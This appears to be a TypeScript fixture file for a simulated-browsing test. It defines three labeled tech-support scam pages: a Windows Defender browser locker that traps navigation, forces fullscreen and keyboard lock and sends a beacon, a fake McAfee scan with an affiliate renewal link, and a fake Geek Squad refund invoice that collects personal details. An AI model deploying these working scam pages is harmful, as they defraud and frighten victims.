import { htmlRoute, redirectRoute, type Entry } from '../entry.js';
import { beepWav, fileRoute, jsRoute, pngRoute } from '../parts/e-bin.js';

const lockerHost = 'wd-alert-93kq.cloud-notify-service.online';
const lockerPath = '/er/0x80073afc/index.html';

const lockerPage = `<!DOCTYPE html>
<html lang="en">
<head>
<meta charset="utf-8">
<meta name="viewport" content="width=device-width, initial-scale=1">
<meta name="robots" content="noindex, nofollow">
<title>Windows Security - Security Warning</title>
<link rel="icon" href="img/shield.png">
<style>
html,body{margin:0;height:100%;overflow:hidden;font-family:"Segoe UI",Tahoma,Arial,sans-serif;background:#0078d7;cursor:none}
#desk{position:fixed;inset:0;background:#0a64ad url(img/bg.png) center/cover}
.taskbar{position:fixed;left:0;right:0;bottom:0;height:40px;background:#101820;color:#fff;display:flex;align-items:center;padding:0 10px;font-size:12px}
.taskbar .clock{margin-left:auto}
.wnd{position:absolute;background:#fff;box-shadow:0 0 0 1px #2b6fc2,0 12px 30px rgba(0,0,0,.5)}
.wnd .bar{background:#1e5fb4;color:#fff;padding:6px 10px;font-size:13px;display:flex;justify-content:space-between}
#main{left:50%;top:46%;transform:translate(-50%,-50%);width:620px}
#main .content{padding:18px 22px;font-size:14px;color:#222}
#main h2{margin:0 0 6px;color:#c50f1f;font-weight:600;font-size:20px}
.threat{background:#fdf3f4;border-left:4px solid #c50f1f;padding:8px 10px;margin:10px 0;font-size:13px}
.call{font-size:22px;font-weight:700;color:#0b5cad;margin:14px 0 4px}
.btns{display:flex;justify-content:flex-end;gap:8px;padding:10px 18px;background:#f3f3f3}
.btns button{min-width:110px;padding:7px 12px;border:1px solid #aaa;background:#fff}
.btns button.pri{background:#0067c0;color:#fff;border-color:#0067c0}
#side{right:24px;top:24px;width:340px;font-size:13px}
#side .content{padding:12px}
#side ul{margin:6px 0;padding-left:18px;color:#a4262c}
#scan{left:30px;top:30px;width:360px}
#scan .content{padding:10px;font-size:12px;color:#333;height:180px;overflow:hidden;font-family:Consolas,monospace}
.banner{position:fixed;top:0;left:0;right:0;background:#c50f1f;color:#fff;text-align:center;padding:8px;font-weight:600;font-size:15px;z-index:5}
</style>
</head>
<body>
<div id="desk"></div>
<div class="banner">Windows Defender - Security Warning &nbsp;|&nbsp; Access to this PC has been blocked for security reasons. Contact Windows Support: <span class="ph">+1-844-520-3971</span> (Toll Free)</div>
<div class="wnd" id="scan"><div class="bar"><span>Windows Defender - Quick Scan</span><span>&#x2715;</span></div><div class="content" id="scanlog"></div></div>
<div class="wnd" id="side"><div class="bar"><span>Windows Security Alert</span><span>&#x2715;</span></div><div class="content">
<b>Threats detected:</b>
<ul><li>Trojan:Win32/Emotet.SCA!MTB</li><li>Spyware: Banker.Zeus.Gen</li><li>Adware: BrowseFox</li></ul>
Your computer has been locked to prevent further damage. Do not attempt to restart your computer. Doing so may result in data loss and identity theft.
</div></div>
<div class="wnd" id="main">
 <div class="bar"><span>&#x1F6E1; Microsoft Windows Defender</span><span>&#x2715;</span></div>
 <div class="content">
  <h2>Access to this PC has been blocked for security reasons</h2>
  <p>Your computer has alerted us that it has been infected with a Trojan Spyware. The following data has been compromised:</p>
  <div class="threat">&gt; Email Credentials<br>&gt; Banking Passwords<br>&gt; Facebook Login<br>&gt; Pictures &amp; Documents</div>
  <p>Windows Defender Scan has found potentially unwanted Adware on this device that can steal your passwords, online identity, financial information, personal files, pictures or documents.</p>
  <p>You must contact us immediately so that our engineers can walk you through the removal process over the phone.</p>
  <p>Call Microsoft Support immediately to report this threat, prevent identity theft and unlock access to this device.</p>
  <p>Closing this window will put your personal information at risk and lead to a suspension of your Windows Registration.</p>
  <div class="call">Call Windows Support: <span class="ph">+1-844-520-3971</span></div>
  <small>(Toll Free, Security Help Line, 24/7)</small>
 </div>
 <div class="btns"><button id="deny">Deny</button><button class="pri" id="allow">Allow</button></div>
</div>
<div class="taskbar"><span>&#x229e;&nbsp;&nbsp;Type here to search</span><span class="clock" id="clk"></span></div>
<audio id="snd" src="media/alert.wav" loop></audio>
<script src="js/lk.min.js"></script>
</body>
</html>`;

const lockerJs = `(function(){
var q=new URLSearchParams(location.search),ph=q.get('ph')||q.get('n')||'+1-844-520-3971';
if(/^\\d{10,11}$/.test(ph))ph='+1-'+ph.slice(-10,-7)+'-'+ph.slice(-7,-4)+'-'+ph.slice(-4);
document.querySelectorAll('.ph').forEach(function(e){e.textContent=ph});
document.title='Windows Security - '+ph;
var log=document.getElementById('scanlog'),files=['C:\\\\Windows\\\\System32\\\\drivers\\\\etc\\\\hosts','C:\\\\Users\\\\Public\\\\Documents','C:\\\\Windows\\\\System32\\\\kernel32.dll','HKLM\\\\SOFTWARE\\\\Microsoft\\\\Windows\\\\CurrentVersion\\\\Run','C:\\\\ProgramData\\\\Microsoft\\\\Crypto\\\\RSA','C:\\\\Users\\\\AppData\\\\Local\\\\Google\\\\Chrome\\\\User Data\\\\Default\\\\Login Data'],i=0;
setInterval(function(){var l=document.createElement('div');l.textContent=(i%4===3?'[THREAT] ':'Scanning: ')+files[i%files.length];if(i%4===3)l.style.color='#c50f1f';log.appendChild(l);if(log.children.length>11)log.removeChild(log.firstChild);i++},350);
setInterval(function(){document.getElementById('clk').textContent=new Date().toLocaleTimeString()},1000);
for(var k=0;k<25;k++)history.pushState({k:k},'',location.href);
window.addEventListener('popstate',function(){history.pushState({},'',location.href)});
window.onbeforeunload=function(){return 'Your computer is blocked. Call '+ph};
function lock(){var d=document.documentElement;try{(d.requestFullscreen||d.webkitRequestFullscreen).call(d)}catch(e){}try{navigator.keyboard&&navigator.keyboard.lock()}catch(e){}try{document.getElementById('snd').play()}catch(e){}}
['click','keydown','mousedown','touchstart'].forEach(function(ev){document.addEventListener(ev,lock,true)});
document.addEventListener('keydown',function(e){if(e.key==='Escape'||e.key==='F11'||(e.ctrlKey&&e.key==='w'))e.preventDefault()},true);
document.addEventListener('contextmenu',function(e){e.preventDefault()});
var img=new Image();img.src='/er/px.gif?e=lnd&ph='+encodeURIComponent(ph)+'&tz='+encodeURIComponent(Intl.DateTimeFormat().resolvedOptions().timeZone)+'&r='+Math.random();
})();`;

const scanHost = 'pc-protection-scan.mcafee-totalshield.com';
const scanPage = `<!DOCTYPE html>
<html lang="en">
<head>
<meta charset="utf-8">
<meta name="viewport" content="width=device-width,initial-scale=1">
<title>McAfee | Total Protection - Scan Results</title>
<style>
*{box-sizing:border-box}body{margin:0;background:#eef1f5;font-family:Arial,Helvetica,sans-serif;color:#25282c}
header{background:#c01818;color:#fff;padding:12px 28px;display:flex;align-items:center;gap:10px}
header .logo{font-weight:700;font-size:22px;letter-spacing:.5px}header .logo span{font-weight:400;font-size:13px;opacity:.85;margin-left:8px}
.wrap{max-width:760px;margin:28px auto;background:#fff;border-radius:6px;box-shadow:0 3px 18px rgba(0,0,0,.12);overflow:hidden}
.top{padding:22px 28px;border-bottom:1px solid #e3e6ea;display:flex;align-items:center;gap:16px}
.top .icon{width:54px;height:54px;border-radius:50%;background:#c01818;color:#fff;font-size:32px;display:flex;align-items:center;justify-content:center}
.progress{height:10px;background:#e6e9ee;border-radius:5px;margin:14px 28px;overflow:hidden}.progress i{display:block;height:100%;width:0;background:#c01818;transition:width .3s}
table{width:calc(100% - 56px);margin:0 28px 18px;border-collapse:collapse;font-size:14px}td,th{padding:9px 6px;border-bottom:1px solid #eee;text-align:left}
.risk{color:#c01818;font-weight:700}
.offer{background:#fff8e5;border:1px solid #f3d27a;margin:0 28px 22px;padding:14px 18px;border-radius:4px;display:none}
.offer b{color:#c01818}
.cta{display:block;margin:16px auto 0;width:280px;text-align:center;background:#1a8d3b;color:#fff;padding:14px;border-radius:4px;font-size:17px;font-weight:700;text-decoration:none}
.timer{font-weight:700;color:#c01818}
footer{font-size:11px;color:#888;text-align:center;padding:18px}
</style>
</head>
<body>
<header><div class="logo">McAfee<sup>&reg;</sup><span>Total Protection</span></div></header>
<div class="wrap">
 <div class="top"><div class="icon">!</div><div><h2 style="margin:0">Your PC is infected with 5 viruses!</h2><div id="status" style="color:#666;font-size:14px;margin-top:4px">Quick scan in progress&hellip; <span id="pct">0</span>%</div></div></div>
 <div class="progress"><i id="bar"></i></div>
 <table id="res"><thead><tr><th>Threat</th><th>Type</th><th>Location</th><th>Risk</th></tr></thead><tbody></tbody></table>
 <div class="offer" id="offer">
  <p><b>Your McAfee subscription has expired on <span id="exp"></span>.</b> Your PC is unprotected and exposed to viruses and other malware.</p>
  <p>Renew now with the limited discount <b>&minus;80%</b>. Offer expires in <span class="timer" id="t">04:59</span>.</p>
  <a class="cta" id="renew" href="#">Renew Subscription &raquo;</a>
 </div>
</div>
<footer>&copy; 2025 Security Notice. This site is an independent affiliate and is not operated by McAfee, LLC. McAfee is a trademark of McAfee, LLC.</footer>
<script>
(function(){
var threats=[['Trojan.Win32.GenericKD','Trojan','C:\\\\Windows\\\\Temp\\\\svchost32.exe','High'],['Ransom:Win32/Stop.P!MSR','Ransomware','C:\\\\Users\\\\Public\\\\libs.dll','Critical'],['PUA:Win32/Presenoker','Adware','Chrome Extensions','Medium'],['Spyware.PasswordStealer','Spyware','AppData\\\\Roaming\\\\Opera','High'],['Backdoor.Agent.RAT','Backdoor','C:\\\\ProgramData\\\\update.exe','Critical']];
var p=0,body=document.querySelector('#res tbody'),shown=0;
var iv=setInterval(function(){p+=Math.floor(Math.random()*7)+2;if(p>100)p=100;document.getElementById('pct').textContent=p;document.getElementById('bar').style.width=p+'%';
var should=Math.floor(p/20);while(shown<should&&shown<threats.length){var t=threats[shown++],tr=document.createElement('tr');tr.innerHTML='<td>'+t[0]+'</td><td>'+t[1]+'</td><td style="font-size:12px">'+t[2]+'</td><td class="risk">'+t[3]+'</td>';body.appendChild(tr)}
if(p>=100){clearInterval(iv);document.getElementById('status').textContent='Scan complete: 5 threats found. Action required!';var d=new Date(Date.now()-86400000*3);document.getElementById('exp').textContent=d.toLocaleDateString();document.getElementById('offer').style.display='block';tick()}},220);
var left=299;function tick(){setInterval(function(){left=Math.max(0,left-1);document.getElementById('t').textContent=('0'+Math.floor(left/60)).slice(-2)+':'+('0'+left%60).slice(-2)},1000)}
var s=new URLSearchParams(location.search);
document.getElementById('renew').href='https://go.secure-renewal-offers.com/aff_c?offer_id=1187&aff_id='+(s.get('aff')||'3302')+'&aff_sub='+(s.get('clickid')||'')+'&source=push';
})();
</script>
</body>
</html>`;

const refundHost = 'billing-center.geeksquad-renewals.help';
const refundPage = `<!DOCTYPE html>
<html lang="en">
<head>
<meta charset="utf-8">
<meta name="viewport" content="width=device-width,initial-scale=1">
<title>Invoice #GS-448120937 | Geek Squad Protection Renewal</title>
<style>
body{margin:0;background:#f4f5f7;font-family:Helvetica,Arial,sans-serif;color:#1d252c}
.hd{background:#0a4abf;padding:16px 32px;color:#fff;display:flex;justify-content:space-between;align-items:center}
.hd .b{font-weight:800;font-size:22px}.hd .b em{background:#ffe000;color:#0a0a0a;font-style:normal;padding:0 6px;margin-left:6px}
.inv{max-width:720px;margin:30px auto;background:#fff;padding:30px 36px;border-top:6px solid #ffe000}
.row{display:flex;justify-content:space-between;font-size:14px;margin:4px 0}
table{width:100%;border-collapse:collapse;margin:20px 0;font-size:14px}th{background:#f0f2f5;text-align:left;padding:10px}td{padding:10px;border-bottom:1px solid #eee}
.tot{font-size:18px;font-weight:700;text-align:right}
.note{background:#fff4f4;border:1px solid #f2c6c6;padding:16px;margin-top:22px;font-size:14px;line-height:1.5}
.note .ph{font-size:24px;font-weight:700;color:#0a4abf;display:block;margin:8px 0}
form{margin-top:18px;display:grid;grid-template-columns:1fr 1fr;gap:10px}form input{padding:10px;border:1px solid #c9ced6;border-radius:3px}form button{grid-column:span 2;padding:12px;background:#0a4abf;color:#fff;border:0;font-weight:700}
.ft{font-size:11px;color:#8a9099;text-align:center;margin:20px}
</style>
</head>
<body>
<div class="hd"><div class="b">GEEK SQUAD<em>&#x2713;</em></div><div>Billing Department</div></div>
<div class="inv">
 <h2 style="margin-top:0">Thank you for your order</h2>
 <p>Dear Customer, your Geek Squad Total Tech Support membership has been <b>successfully renewed</b> and the amount has been charged to your account on file.</p>
 <div class="row"><span>Invoice Number:</span><b>GS-448120937</b></div>
 <div class="row"><span>Order Date:</span><b id="d1"></b></div>
 <div class="row"><span>Payment Method:</span><b>Auto-Debit</b></div>
 <table><tr><th>Product</th><th>Term</th><th>Qty</th><th>Amount</th></tr>
 <tr><td>Geek Squad Total Tech Protection (5 Devices)</td><td>3 Years</td><td>1</td><td>$399.99</td></tr>
 <tr><td>Windows Firewall &amp; Anti-Malware Add-on</td><td>3 Years</td><td>1</td><td>$0.00</td></tr></table>
 <div class="tot">Total Charged: $399.99</div>
 <div class="note">If you did not authorize this transaction or wish to cancel your membership and receive a full refund, please call our Billing Department within 24 hours. After 24 hours the renewal cannot be reversed.
 <span class="ph">&#x260E; +1 (808) 460-2291</span>
 Refund Desk hours: Mon&ndash;Sun 7AM&ndash;11PM EST. Have your invoice number ready.</div>
 <h3>Request a call-back for cancellation</h3>
 <form id="cb" method="post" action="/cb.php">
  <input name="name" placeholder="Full name" required>
  <input name="phone" placeholder="Phone number" required>
  <input name="email" placeholder="Email address">
  <input name="invoice" value="GS-448120937">
  <button type="submit">Cancel &amp; Request Refund</button>
 </form>
</div>
<div class="ft">&copy; 2025 Geek Squad Billing Support. All rights reserved.</div>
<script>
document.getElementById('d1').textContent=new Date().toLocaleDateString('en-US',{month:'long',day:'numeric',year:'numeric'});
document.getElementById('cb').addEventListener('submit',function(e){e.preventDefault();var f=new FormData(this);fetch('/cb.php',{method:'POST',body:f}).finally(function(){alert('Thank you. A refund agent will call you shortly. For faster service call +1 (808) 460-2291 now.')})});
</script>
</body>
</html>`;

export const entries: Entry[] = [
  {
    id: 'e-scam-browserlocker-defender',
    label: 'scam',
    kind: 'tech-support',
    url: 'https://trk.adsflowzone.click/c/88120?sub1=pop&sub2=win10-chrome',
    routes: {
      'trk.adsflowzone.click/c/88120': redirectRoute(302, `https://${lockerHost}${lockerPath}?ph=18445203971&cid=a9f1e2`),
      [`${lockerHost}${lockerPath}`]: htmlRoute(lockerPage),
      [`${lockerHost}/er/0x80073afc/js/lk.min.js`]: jsRoute(lockerJs),
      [`${lockerHost}/er/0x80073afc/media/alert.wav`]: fileRoute(beepWav(1.2, 880), 'audio/wav'),
      [`${lockerHost}/er/0x80073afc/img/shield.png`]: pngRoute(0, 120, 215),
      [`${lockerHost}/er/0x80073afc/img/bg.png`]: pngRoute(10, 100, 173),
      [`${lockerHost}/er/px.gif`]: fileRoute(Buffer.from('R0lGODlhAQABAAAAACw=', 'base64'), 'image/gif'),
    },
  },
  {
    id: 'e-scam-fakeav-scan-renew',
    label: 'scam',
    kind: 'fake-av-scan',
    url: `https://${scanHost}/lp/scan5/?clickid=7f2a09b1&aff=3302&src=pushmonetize`,
    body: scanPage,
  },
  {
    id: 'e-scam-refund-geeksquad-renewal',
    label: 'scam',
    kind: 'refund-renewal',
    url: `https://${refundHost}/invoice/GS-448120937`,
    body: refundPage,
    routes: { [`${refundHost}/cb.php`]: { status: 200, headers: { 'content-type': 'text/plain' }, body: 'ok' } },
  },
];
